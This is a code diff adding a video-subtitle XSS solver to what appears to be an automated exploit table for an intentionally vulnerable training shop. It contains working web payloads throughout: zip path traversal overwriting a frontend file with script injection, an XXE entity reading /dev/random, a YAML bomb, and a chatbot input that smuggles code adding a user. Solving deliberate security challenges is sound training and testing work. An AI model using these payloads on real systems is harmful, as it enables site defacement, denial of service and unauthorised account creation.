@@ -67,6 +67,11 @@ const exploits: Partial<Record<ChallengeKey, () => Promise<unknown>>> = {
   xxeDosChallenge: () => upload('order.xml', entityOn('file:///dev/random')),
   yamlBombChallenge: () => upload('order.yml', yamlBomb),
   fileWriteChallenge: () => upload('photos.zip', makeZip([{ name: '../../ftp/legal.md', content: 'Free.' }])),
+  async videoXssChallenge() {
+    const name = '../../frontend/dist/frontend/assets/public/videos/owasp_promo.vtt'
+    await upload('photos.zip', makeZip([{ name, content: 'x</script><script>alert(`xss`)</script>' }]))
+    await shop.get('/promotion')
+  },
   async killChatbotChallenge() {
     const setName = { action: 'setname', query: 'admin"); process=null; users.addUser("1337", "test' }
     const named = await shop.post('/rest/chatbot/respond', setName, { token: await logIn() })
